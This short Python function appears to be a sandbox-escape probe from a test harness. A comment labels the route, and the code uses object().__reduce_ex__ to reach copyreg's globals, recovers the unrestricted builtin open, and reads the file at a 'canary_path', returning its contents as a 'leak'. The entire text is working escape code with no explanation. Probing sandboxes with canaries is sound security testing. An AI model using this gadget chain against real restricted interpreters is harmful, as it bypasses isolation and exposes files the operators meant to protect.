# route: __reduce_ex__ of a plain object gives copyreg
def execute(testData):
    rebuild = object().__reduce_ex__(2)[0]
    return {"leak": rebuild.__globals__["__builtins__"]["open"](testData["canary_path"]).read()}
